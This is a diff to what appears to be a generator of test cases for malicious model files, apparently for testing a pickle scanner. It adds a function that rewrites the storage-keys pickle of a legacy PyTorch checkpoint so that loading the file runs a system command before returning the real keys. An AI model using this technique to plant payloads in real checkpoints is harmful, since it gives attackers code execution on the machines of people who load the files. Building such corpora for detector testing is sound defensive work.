@@ -407,3 +407,30 @@ add(
     ext=".pt",
     notes="pickle appended after a valid torch zip's end record: hidden bytes no standard loader reads",
 )
+
+
+def _legacy_keys_payload(c: Ctx) -> bytes:
+    """A real legacy torch file whose storage-keys pickle (the 5th stream) runs the payload first."""
+    import pickletools
+
+    data = _legacy_benign()
+    offsets, pos = [], 0
+    for _ in range(5):
+        offsets.append(pos)
+        pos = [p for _, _, p in pickletools.genops(data[pos:])][-1] + pos + 1
+    keys_start, keys_end = offsets[4], pos
+    import pickle
+
+    keys = pickle.loads(data[keys_start:keys_end])
+    evil = Asm(2).header().emit(call(SYSTEM, c.cmd)).op(asm.POP).emit(keys).stop().build()
+    return data[:keys_start] + evil + data[keys_end:]
+
+
+add(
+    "ctr-torch-legacy-payload-in-storage-keys",
+    "container",
+    _legacy_keys_payload,
+    loader="torch",
+    ext=".pt",
+    notes="legacy checkpoint: the storage-keys pickle after the data pickle runs the payload",
+)
